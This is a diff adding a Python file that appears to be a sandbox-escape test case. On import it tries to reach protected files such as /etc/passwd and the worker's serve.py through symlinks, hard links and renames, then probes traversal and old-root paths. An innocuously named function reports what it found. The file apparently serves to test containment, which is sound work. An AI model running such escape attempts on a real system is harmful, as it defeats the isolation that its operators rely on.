@@ -1,0 +1,36 @@
+"""Reaches what it may not through links in its scratch folder: symbolic ones, hard ones, and renames.
+
+outcome: raised
+"""
+
+import os
+
+TARGETS = ("/worker/serve.py", "/usr/bin/env", "/etc/passwd", os.__file__)
+
+
+def attack():
+    for number, target in enumerate(TARGETS):
+        for make in (os.symlink, os.link):
+            path = f"/tmp/link-{number}-{make.__name__}"
+            try:
+                make(target, path)
+                os.close(os.open(path, os.O_RDWR))
+                return f"{target} by {make.__name__}"
+            except OSError:
+                pass
+        try:
+            os.rename(target, f"/tmp/taken-{number}")
+            return f"took {target}"
+        except OSError:
+            pass
+    for path in ("/tmp/../../../../work", "/proc/self/root/../work", "/tmp/../old_root", "/oldroot", "/newroot"):
+        if os.path.exists(path):
+            return path
+    return ""
+
+
+FOUND = attack()
+
+
+def concat_heads(x):
+    raise ValueError("softmark-harm: " + FOUND if FOUND else "no way out")
